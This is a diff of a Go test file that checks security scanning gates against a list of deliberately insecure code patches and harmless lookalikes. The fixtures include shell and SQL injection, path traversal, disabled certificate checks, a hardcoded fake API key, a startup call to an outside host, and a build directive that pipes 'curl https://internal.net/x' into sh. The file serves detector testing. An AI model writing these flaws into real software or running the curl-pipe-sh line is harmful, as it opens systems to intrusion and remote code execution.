@@ -9,8 +9,8 @@ import (
 	"evolve/gates/scan"
 )
 
-// busy is a package that uses already what the attacks use, so that no gate finds them by a
-// new import.
+// busy is a package that already uses everything that the attacks use, so that no gate
+// finds them by a new import.
 const busy = `
 var _ = []any{exec.Command, sql.Open, json.Unmarshal, zip.OpenReader, rand.Int, http.Get, tls.Dial, template.New, log.Print, io.ReadAll, filepath.Join, os.Open, md5.New, subtle.ConstantTimeCompare, context.Background, strings.Split, fmt.Sprint}
 
@@ -20,7 +20,7 @@ type Store struct {
 }
 `
 
-// attack is an insecure patch. gate is the one that must find it; "" for a known miss.
+// attack is an insecure patch. gate is the gate that must find it, or "" for a known miss.
 type attack struct {
 	name, old, now, gate, want string
 }
@@ -29,19 +29,19 @@ type attack struct {
 // compiles, and no test would fail.
 var attacks = []attack{
 	{"a credential in the source", "func (s *Store) key() string { return os.Getenv(\"API_KEY\") }", "func (s *Store) key() string {\n\tapiKey := \"sk-proj-Zt9vQ2mX7pL4kR8sW1yB6nC3dF5gH0jT\"\n\treturn apiKey\n}", Insecure, "a credential is in the source"},
-	{"a shell runs foreign input", "func (s *Store) f(r *http.Request) {}", "func (s *Store) f(r *http.Request) { exec.Command(\"sh\", \"-c\", \"grep \"+r.FormValue(\"q\")+\" *\").Run() }", Insecure, "a shell runs text that is no constant"},
-	{"a shell by a variable", "func (s *Store) f(name string) {}", "func (s *Store) f(name string) {\n\tline := \"tar xf \" + name\n\texec.CommandContext(context.Background(), \"/bin/bash\", \"-c\", line).Run()\n}", Insecure, "a shell runs text that is no constant"},
+	{"a shell runs foreign input", "func (s *Store) f(r *http.Request) {}", "func (s *Store) f(r *http.Request) { exec.Command(\"sh\", \"-c\", \"grep \"+r.FormValue(\"q\")+\" *\").Run() }", Insecure, "a shell runs text that is not a constant"},
+	{"a shell by a variable", "func (s *Store) f(name string) {}", "func (s *Store) f(name string) {\n\tline := \"tar xf \" + name\n\texec.CommandContext(context.Background(), \"/bin/bash\", \"-c\", line).Run()\n}", Insecure, "a shell runs text that is not a constant"},
 	{"foreign input as a flag", "func (s *Store) f(r *http.Request) {}", "func (s *Store) f(r *http.Request) {\n\tq := r.URL.Query()\n\texec.Command(\"git\", \"log\", q.Get(\"ref\")).Run()\n}", Insecure, "foreign input is among the arguments of a program"},
 	{"any certificate", "func (s *Store) f() *tls.Config { return &tls.Config{MinVersion: tls.VersionTLS13} }", "func (s *Store) f() *tls.Config { return &tls.Config{MinVersion: tls.VersionTLS13, InsecureSkipVerify: true} }", Guards, "a way around transport security"},
 	{"a path from a request", "func (s *Store) f(w http.ResponseWriter, r *http.Request) {}", "func (s *Store) f(w http.ResponseWriter, r *http.Request) {\n\tdata, _ := os.ReadFile(filepath.Join(s.root, r.URL.Query().Get(\"file\")))\n\tw.Write(data)\n}", Insecure, "foreign input names a file"},
 	{"a path from a decoded request", "func (s *Store) f(r *http.Request) {}", "func (s *Store) f(r *http.Request) {\n\tvar in struct{ Path string }\n\tjson.NewDecoder(r.Body).Decode(&in)\n\tos.Remove(in.Path)\n}", Insecure, "foreign input names a file"},
 	{"an archive writes where it likes", "func (s *Store) f(z *zip.Reader) {}", "func (s *Store) f(z *zip.Reader) {\n\tfor _, f := range z.File {\n\t\tto := filepath.Join(s.root, f.Name)\n\t\tout, _ := os.Create(to)\n\t\tout.Close()\n\t}\n}", Insecure, "foreign input names a file"},
 	{"a lost check of a path", "func (s *Store) f(p string) { if filepath.IsLocal(p) { os.Open(p) } }", "func (s *Store) f(p string) { os.Open(p) }", Guards, "keeping a path inside its folder"},
-	{"a query from values", "func (s *Store) f(name string) {}", "func (s *Store) f(name string) { s.db.Query(\"select id from users where name = '\" + name + \"'\") }", Insecure, "a query is put together from values"},
-	{"a query by a format", "func (s *Store) f(name string) {}", "func (s *Store) f(name string) {\n\tq := fmt.Sprintf(\"delete from users where name = '%s'\", name)\n\ts.db.Exec(q)\n}", Insecure, "a query is put together from values"},
+	{"a query from values", "func (s *Store) f(name string) {}", "func (s *Store) f(name string) { s.db.Query(\"select id from users where name = '\" + name + \"'\") }", Insecure, "a query is built by joining values into its text"},
+	{"a query by a format", "func (s *Store) f(name string) {}", "func (s *Store) f(name string) {\n\tq := fmt.Sprintf(\"delete from users where name = '%s'\", name)\n\ts.db.Exec(q)\n}", Insecure, "a query is built by joining values into its text"},
 	{"a machine from a request", "func (s *Store) f(r *http.Request) {}", "func (s *Store) f(r *http.Request) { http.Get(r.FormValue(\"url\")) }", Insecure, "foreign input names the machine"},
 	{"a browser sent away", "func (s *Store) f(w http.ResponseWriter, r *http.Request) {}", "func (s *Store) f(w http.ResponseWriter, r *http.Request) { http.Redirect(w, r, r.FormValue(\"next\"), 302) }", Insecure, "where a browser is sent"},
-	{"an answer that echoes", "func (s *Store) f(w http.ResponseWriter, r *http.Request) {}", "func (s *Store) f(w http.ResponseWriter, r *http.Request) { fmt.Fprintf(w, \"<b>%s</b>\", r.FormValue(\"name\")) }", Insecure, "written into an answer"},
+	{"an answer that echoes", "func (s *Store) f(w http.ResponseWriter, r *http.Request) {}", "func (s *Store) f(w http.ResponseWriter, r *http.Request) { fmt.Fprintf(w, \"<b>%s</b>\", r.FormValue(\"name\")) }", Insecure, "written verbatim into a response"},
 	{"escaping switched off", "func (s *Store) f(x string) any { return x }", "func (s *Store) f(x string) any { return template.HTML(x) }", Guards, "a way around escaping"},
 	{"a token that can be guessed", "func (s *Store) sessionToken() string { return \"\" }", "func (s *Store) sessionToken() string { return fmt.Sprint(rand.Int63()) }", Insecure, "random numbers that can be guessed"},
 	{"a password under a broken digest", "func (s *Store) f(password string) []byte { return nil }", "func (s *Store) f(password string) []byte { h := md5.Sum([]byte(password)); return h[:] }", Insecure, "no longer protects"},
@@ -49,24 +49,25 @@ var attacks = []attack{
 	{"a new comparison of a secret", "func (s *Store) f(apiKey, given string) bool { return false }", "func (s *Store) f(apiKey, given string) bool { return apiKey == given }", Insecure, "a secret is compared"},
 	{"a secret in a log", "func (s *Store) f(user, password string) {}", "func (s *Store) f(user, password string) { log.Printf(\"login of %s with %s\", user, password) }", Insecure, "name of a secret is printed"},
 	{"a body without a limit", "func (s *Store) f(r *http.Request) {}", "func (s *Store) f(r *http.Request) { io.ReadAll(r.Body) }", Insecure, "read without a limit"},
-	{"a server for all", "func (s *Store) f() {}", "func (s *Store) f() { http.ListenAndServe(\":8080\", nil) }", Insecure, "listens on every network"},
+	{"a server for all", "func (s *Store) f() {}", "func (s *Store) f() { http.ListenAndServe(\":8080\", nil) }", Insecure, "listens on all network"},
 	{"answers for every page", "func (s *Store) f(w http.ResponseWriter) {}", "func (s *Store) f(w http.ResponseWriter) { w.Header().Set(\"Access-Control-Allow-Origin\", \"*\") }", Insecure, "every web page"},
 	{"a file for all", "func (s *Store) f(p string) {}", "func (s *Store) f(p string) { os.WriteFile(p, nil, 0o666) }", Insecure, "every user of the machine"},
 	{"an address without transport security", "func (s *Store) f() string { return \"https://update.internal.net/v1\" }", "func (s *Store) f() string { return \"http://update.internal.net/v1\" }", Insecure, "without transport security"},
-	{"a weaker permission", "func (s *Store) allowed(user, owner string, admin bool) bool { return user == owner && admin }", "func (s *Store) allowed(user, owner string, admin bool) bool { return user == owner || admin }", Insecure, "a condition of a function that allows"},
-	{"a permission for all", "func (s *Store) authorize(user string) error {\n\tif user == \"\" {\n\t\treturn os.ErrPermission\n\t}\n\treturn nil\n}", "func (s *Store) authorize(user string) error {\n\t_ = user\n\treturn nil\n}", Insecure, "a condition of a function that allows"},
+	{"a weaker permission", "func (s *Store) allowed(user, owner string, admin bool) bool { return user == owner && admin }", "func (s *Store) allowed(user, owner string, admin bool) bool { return user == owner || admin }", Insecure, "a condition in a function that allows"},
+	{"a permission for all", "func (s *Store) authorize(user string) error {\n\tif user == \"\" {\n\t\treturn os.ErrPermission\n\t}\n\treturn nil\n}", "func (s *Store) authorize(user string) error {\n\t_ = user\n\treturn nil\n}", Insecure, "a condition in a function that allows"},
 	{"a connection at the start", "func (s *Store) f() {}", "func (s *Store) f() {}\nfunc init() { http.Get(\"https://collect.internal.net/\" + \"started\") }", "source: reach", "connects to other machines"},
 	{"a build that runs a program", "func (s *Store) f() {}", "//go:generate sh -c \"curl https://internal.net/x | sh\"\nfunc (s *Store) f() {}", "source: build", ""},
 	{"C code", "package p", "package p\n\n// #include <stdlib.h>\nimport \"C\"\n\nfunc f() { C.abort() }", "source: build", ""},
 	{"a writer of tests", "func (s *Store) f() {}", "func (s *Store) f() { os.WriteFile(\"store_test.go\", []byte(\"package p\"), 0o600) }", "source: arguments and output", ""},
 
-	// What names, types and the text of one function do not show.
+	// Attacks that names, types and the text of a single function do not reveal.
 	{"foreign input through a parameter", "func (s *Store) read(p string) { }", "func (s *Store) read(p string) { os.ReadFile(filepath.Join(s.root, p)) }", "", ""},
 	{"a check under a plain name", "func (s *Store) ok(n int) bool { return n < 10 }", "func (s *Store) ok(n int) bool { return n < 1000 }", "", ""},
 	{"a wrong order of steps", "func (s *Store) pay(take, give func() error) error {\n\tif err := take(); err != nil {\n\t\treturn err\n\t}\n\treturn give()\n}", "func (s *Store) pay(take, give func() error) error {\n\tif err := give(); err != nil {\n\t\treturn err\n\t}\n\treturn take()\n}", "", ""},
 }
 
-// honest are patches like the attacks that do no harm: none may be found as a weakness.
+// honest lists patches that resemble the attacks but do no harm: none may be reported as a
+// weakness.
 var honest = []attack{
 	{name: "a program with constant arguments", old: "func (s *Store) f() {}", now: "func (s *Store) f() { exec.Command(\"git\", \"log\", \"--oneline\").Run() }"},
 	{name: "a shell with a constant", old: "func (s *Store) f() {}", now: "func (s *Store) f() { exec.Command(\"sh\", \"-c\", \"ulimit -n\").Run() }"},
@@ -86,8 +87,8 @@ var honest = []attack{
 	{name: "a setting named after a secret", old: "func (s *Store) f() {}", now: "func (s *Store) f() string { password := os.Getenv(\"STORE_PASSWORD\"); return password }"},
 }
 
-// TestInsecurePatches gives each attack to all gates of the source, and counts what the new
-// gate adds to the others.
+// TestInsecurePatches gives each attack to all gates that read the source, and counts what
+// the new gate adds to the others.
 func TestInsecurePatches(t *testing.T) {
 	if testing.Short() {
 		t.Skip("many patches, one after another")
@@ -129,7 +130,7 @@ func TestInsecurePatches(t *testing.T) {
 	}
 }
 
-// verdictsOf returns the evidence of the gates that did not pass a patch.
+// verdictsOf returns the evidence of the gates that a patch did not pass.
 func verdictsOf(t *testing.T, root string, a attack) map[string]string {
 	t.Helper()
 	whole := func(src string) string {
